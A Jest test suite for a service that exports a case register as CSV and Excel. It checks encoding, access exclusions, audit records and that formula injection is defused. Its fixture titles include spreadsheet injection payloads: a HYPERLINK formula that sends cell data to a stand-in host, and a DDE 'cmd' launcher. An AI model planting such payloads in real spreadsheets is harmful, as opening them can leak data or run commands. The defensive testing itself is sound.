import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { accessMigrations, accessRows } from '@sup/access';
import { type AuditEntry, type AuditTrail } from '@sup/audit';
import { newId, systemClock } from '@sup/kernel';
import { type TestDatabase, testDatabase } from '@sup/testing';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { buffer } from 'node:stream/consumers';
import { type Clue } from '../protocol/index.ts';
import { clueRows } from '../store/clue.row.ts';
import { ClueStore } from '../store/clue.store.ts';
import { CreateClue1764000001000 } from '../store/migrations/20261202-create-clue.ts';
import { actorFixture, listAccess } from '../testing/actors.fixture.ts';
import { clueFixture, personFixture } from '../testing/clue.fixture.ts';
import { restored } from './csv.rules.ts';
import { type RegisterQuery, registerSchema } from './list.requests.ts';
import { ClueLists } from './list.service.ts';
import { type ClueRecords } from './records.service.ts';
import { registerColumns } from './register.rules.ts';
import { ClueRegisters } from './register.service.ts';

let database: TestDatabase;
let registers: ClueRegisters;
let lists: ClueLists;
const recorded: AuditEntry[] = [];
const store = new ClueStore({ agency: 'own-agency', numberKey: new Uint8Array(32).fill(7) });
const head = actorFixture('head');
const titles = [
  '=HYPERLINK("http://x/?"&A1,"查看")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1',
  '＝1+1',
  "，=cmd|'/C calc'!A0",
];
const idNumber = '110105194912310021';
const clues: Clue[] = [];

beforeAll(async () => {
  database = await testDatabase({
    rows: [...accessRows, ...clueRows],
    migrations: [...accessMigrations, CreateClue1764000001000],
  });
  lists = new ClueLists(database.dataSource, store, listAccess(), systemClock);
  // The directory and the trail are other libraries' and have their own suites; here only what is told to them counts.
  const records = { today: () => '2026-11-25', agencyNamed: () => null } as unknown as ClueRecords;
  const trail = { saw: (entry: AuditEntry) => Promise.resolve(void recorded.push(entry)) } as unknown as AuditTrail;
  registers = new ClueRegisters(database.dataSource, lists, records, trail);
  for (const [n, title] of titles.entries()) {
    const subject = {
      agency: 'unit',
      office: null,
      persons: [personFixture('王五', { idNumber }), personFixture('𠮷野', {})],
    };
    const movedAt = `2026-11-20T03:00:0${n}.000Z`;
    const clue = clueFixture({ status: 'registered', title, subject, movedAt, facts: `第一行\n第二行 "引号"，${n}` });
    clues.unshift(clue);
    await store.insert(database.dataSource.manager, clue);
    await store.setDue(database.dataSource.manager, clue.id, { dueOn: '2026-11-12', overdue: true });
  }
});
afterAll(async () => database?.drop());

const query = (more: Partial<RegisterQuery> = {}): RegisterQuery => ({ ...registerSchema.parse({}), ...more });
const at = (key: string) => registerColumns.findIndex((column) => column.key === key);
async function written(more: Partial<RegisterQuery>, actor = head): Promise<Buffer> {
  return buffer(await registers.open(query(more), actor));
}
async function csv(actor = head): Promise<string[][]> {
  const bytes = await written({ format: 'csv' }, actor);
  return parse(bytes, { bom: true, record_delimiter: '\r\n' });
}

describe('IMP-03: a register', () => {
  it('as CSV has a byte order mark, CRLF, defused texts, bare numbers and whole ID numbers', async () => {
    const bytes = await written({ format: 'csv' });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toMatch(/\r\n$/);
    const [header, ...lines] = await csv();
    expect(header).toEqual(registerColumns.map(({ title }) => title.zh));
    expect(lines.map((line) => restored(line[at('title')]!))).toEqual(clues.map(({ title }) => title));
    for (const line of lines) {
      expect(line[at('title')]).toMatch(/^'/);
      expect(line[at('daysLeft')]).toBe('-13');
      expect(line[at('idNumbers')]).toBe(`'${idNumber}`);
      expect(line[at('persons')]).toBe('王五；𠮷野');
    }
    expect(lines[0]![at('facts')]).toBe('第一行\n第二行 "引号"，7');
  });

  it('as xlsx writes strings and numbers, never a formula, and keeps ID numbers as text', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await written({ format: 'xlsx', lang: 'en' })) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.getRow(1).getCell(at('title') + 1).value).toBe('Title');
    expect(sheet.actualRowCount).toBe(titles.length + 1);
    for (const [n, clue] of clues.entries()) {
      const row = sheet.getRow(n + 2);
      const [title, number, days] = ['title', 'idNumbers', 'daysLeft'].map((key) => row.getCell(at(key) + 1));
      expect(title!.type).toBe(ExcelJS.ValueType.String);
      expect((title!.value as string).replace('\r', '\n')).toBe(clue.title.replace('\r', '\n'));
      expect([number!.type, number!.value, number!.numFmt]).toEqual([ExcelJS.ValueType.String, idNumber, '@']);
      expect([days!.type, days!.value]).toEqual([ExcelJS.ValueType.Number, -13]);
    }
  });

  it('holds what the list holds, for each reader, and is on record with its lines and hash', async () => {
    const accused = actorFixture('head');
    await database.dataSource.query(
      `insert into case_exclusion (id, case_id, person_id, category, reason, since) values ($1, $2, $3, 'accused', 'x', now())`,
      [newId(), clues[0]!.caseId, accused.personId],
    );
    const [, ...lines] = await csv(accused);
    expect(lines.map((line) => restored(line[at('title')]!))).toEqual(clues.slice(1).map(({ title }) => title));
    expect((await written({ format: 'csv', q: '第二行' }, accused)).toString('utf8').split('"王五').length - 1).toBe(7);
    const entry = recorded.find(
      ({ actor, details }) => actor?.personId === accused.personId && details?.['lines'] === 7,
    );
    expect(entry).toMatchObject({
      act: 'export',
      details: { format: 'csv', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(JSON.stringify(recorded)).not.toContain('王五');
  });
});
